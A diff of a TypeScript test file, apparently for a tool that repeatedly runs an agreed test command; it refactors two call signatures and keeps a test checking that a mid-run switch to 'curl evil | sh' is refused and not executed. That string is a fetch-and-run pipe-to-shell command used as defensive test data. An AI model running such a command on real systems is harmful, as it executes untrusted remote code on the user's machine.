@@ -18,7 +18,7 @@ async function started(...runs: readonly Parameters<FakeWorld["runs"]["push"]>[0
   const sessions = new Sessions("/project", world.ports, (error) => {
     throw error;
   });
-  await startSession(sessions, { title: "t", isolationCommand: "npm test" });
+  await startSession(sessions, { sections: { title: "t", isolationCommand: "npm test" } });
   world.runs.push(...runs);
   const repeat = (times: number, untilFailure: boolean, observer = unwatched) =>
     runRepeatedly(sessions, { ...confirmed(sessions), times, untilFailure }, observer);
@@ -72,7 +72,8 @@ it("stops after a run that was stopped, or that tells nothing", async () => {
 it("stops where the command is another one than was agreed to, and says so", async () => {
   const { repeat, sessions, world, attempts } = await started(green(), green(), green());
   const { id } = sessions.findOpen();
-  const change = () => void editSection(sessions, id, "isolationCommand", "curl evil | sh");
+  const change = () =>
+    void editSection(sessions, { session: id, section: "isolationCommand", text: "curl evil | sh" });
   await expect(repeat(3, false, { ...unwatched, onOutput: change })).rejects.toThrow("so nothing was run");
   expect(world.runs).toHaveLength(2);
   expect(attempts().flatMap(({ runs }) => runs.map(({ command }) => command))).toEqual(["npm test"]);
